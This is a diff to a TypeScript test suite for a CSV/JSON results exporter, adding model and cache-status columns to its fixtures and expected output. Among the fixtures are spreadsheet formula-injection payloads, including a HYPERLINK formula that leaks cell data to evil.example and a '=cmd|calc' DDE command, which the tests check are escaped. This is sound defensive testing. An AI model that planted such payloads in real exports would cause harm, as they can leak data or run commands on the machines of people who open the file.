@@ -64,14 +64,17 @@ function fillStore(job: Job): StateStore {
     RUN,
   );
   store.startRun({ id: RUN, pid: process.pid, host: 'test', options: {} });
-  const done = (id: string, step: string, result: unknown, outputs: string[], cost: number): void => {
+  const done = (id: string, step: string, result: unknown, outputs: string[], cost: number, extra: { model?: string; cached?: boolean } = {}): void => {
     store.markRunning(id, step, RUN, 'proj-a');
-    store.completeStep(id, step, { result, outputs, promptHash: 'p', costUsd: cost }, call(id, step, cost));
+    store.completeStep(id, step, { result, outputs, promptHash: 'p', costUsd: cost, ...extra }, call(id, step, cost));
   };
   // 1: everything done, ordinary values.
   done('kubernetes-1', 'brief', { text: '{…}', alt_text: 'A ship’s wheel, "helm", on blue', score: 0.75, tags: ['k8s', 'ops'] }, [], 0.0012);
-  done('kubernetes-1', 'hero', { file: 'images/kubernetes-1.png', files: ['images/kubernetes-1.png'] }, ['images/kubernetes-1.png'], 0.039);
-  done('kubernetes-1', 'notes', { text: 'Line one,\nline two; with "quotes" | and a pipe' }, [], 0.0004);
+  // The hero image came from a fallback model, the notes from the response cache.
+  done('kubernetes-1', 'hero', { file: 'images/kubernetes-1.png', files: ['images/kubernetes-1.png'] }, ['images/kubernetes-1.png'], 0.039, {
+    model: 'imagen-4.0-fast-generate-001',
+  });
+  done('kubernetes-1', 'notes', { text: 'Line one,\nline two; with "quotes" | and a pipe' }, [], 0.0004, { model: 'gemini-2.5-flash', cached: true });
   // 2: formula payloads in the id and in every JSON field; a negative score stays a number.
   done('@SUM(1+1)', 'brief', { alt_text: '=HYPERLINK("http://evil.example/?leak="&A1, "click")', score: -3, tags: ['=1+1'] }, [], 0.001);
   done('@SUM(1+1)', 'hero', { file: 'images/@SUM(1+1).png' }, ['images/@SUM(1+1).png'], 0.039);
@@ -141,21 +144,27 @@ describe('writeResults', () => {
       expect(written).toBe(join(dir, 'out', 'nested', 'results.csv'));
       const text = readFileSync(join(dir, 'out', 'nested', 'results.csv'), 'utf8');
       expect(text.split('\n')[0]).toBe(
-        'id,brief_state,brief_alt_text,brief_score,brief_tags,brief_error,hero_state,hero_file,hero_error,notes_state,notes_text,notes_error,cost_usd',
+        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_score,brief_tags,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_error,notes_state,notes_model,notes_cached,notes_text,notes_error,cost_usd',
       );
       const rows = readCsv(join(dir, 'out', 'nested', 'results.csv'));
       expect(rows.map((r) => r.id)).toEqual(['kubernetes-1', "'@SUM(1+1)", "'=cmd|calc", '-5', 'pending-one']);
       expect(rows[0]).toEqual({
         id: 'kubernetes-1',
         brief_state: 'done',
+        brief_model: 'gemini-2.5-flash',
+        brief_cached: '',
         brief_alt_text: 'A ship’s wheel, "helm", on blue',
         brief_score: '0.75',
         brief_tags: '["k8s","ops"]',
         brief_error: '',
         hero_state: 'done',
+        hero_model: 'imagen-4.0-fast-generate-001',
+        hero_cached: '',
         hero_file: 'images/kubernetes-1.png',
         hero_error: '',
         notes_state: 'done',
+        notes_model: 'gemini-2.5-flash',
+        notes_cached: 'yes',
         notes_text: 'Line one,\nline two; with "quotes" | and a pipe',
         notes_error: '',
         cost_usd: '0.0406',
@@ -163,6 +172,7 @@ describe('writeResults', () => {
       expect(rows[2]).toMatchObject({
         brief_state: 'done',
         hero_state: 'filtered',
+        hero_model: '',
         hero_error: 'IMAGE_SAFETY: the image may violate the usage guidelines.',
         notes_state: 'pending',
       });
@@ -229,9 +239,15 @@ describe('writeResults', () => {
       expect(records[0]).toEqual({
         id: 'kubernetes-1',
         steps: {
-          brief: { state: 'done', files: [], fields: { alt_text: 'A ship’s wheel, "helm", on blue', score: 0.75, tags: ['k8s', 'ops'] } },
-          hero: { state: 'done', files: ['images/kubernetes-1.png'], fields: {} },
-          notes: { state: 'done', files: [], fields: {}, text: 'Line one,\nline two; with "quotes" | and a pipe' },
+          brief: {
+            state: 'done',
+            model: 'gemini-2.5-flash',
+            cached: false,
+            files: [],
+            fields: { alt_text: 'A ship’s wheel, "helm", on blue', score: 0.75, tags: ['k8s', 'ops'] },
+          },
+          hero: { state: 'done', model: 'imagen-4.0-fast-generate-001', cached: false, files: ['images/kubernetes-1.png'], fields: {} },
+          notes: { state: 'done', model: 'gemini-2.5-flash', cached: true, files: [], fields: {}, text: 'Line one,\nline two; with "quotes" | and a pipe' },
         },
         cost_usd: 0.0406,
       });
@@ -251,16 +267,18 @@ describe('writeResults', () => {
     try {
       await writeResults(job, store, join(dir, 'scratch'), { fields: ['brief.alt_text'] });
       const header = readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0];
-      expect(header).toBe('id,brief_state,brief_alt_text,brief_error,hero_state,hero_file,hero_error,notes_state,notes_error,cost_usd');
+      expect(header).toBe(
+        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_error,notes_state,notes_model,notes_cached,notes_error,cost_usd',
+      );
 
       await writeResults(job, store, join(dir, 'scratch'), { fields: ['notes.text', 'brief.*', 'brief.score'] });
       expect(readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0]).toBe(
-        'id,brief_state,brief_alt_text,brief_score,brief_tags,brief_error,hero_state,hero_file,hero_error,notes_state,notes_text,notes_error,cost_usd',
+        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_score,brief_tags,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_error,notes_state,notes_model,notes_cached,notes_text,notes_error,cost_usd',
       );
 
       await writeResults(job, store, join(dir, 'scratch'), { fields: [] });
       expect(readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0]).toBe(
-        'id,brief_state,brief_error,hero_state,hero_file,hero_error,notes_state,notes_error,cost_usd',
+        'id,brief_state,brief_model,brief_cached,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_error,notes_state,notes_model,notes_cached,notes_error,cost_usd',
       );
     } finally {
       store.close();
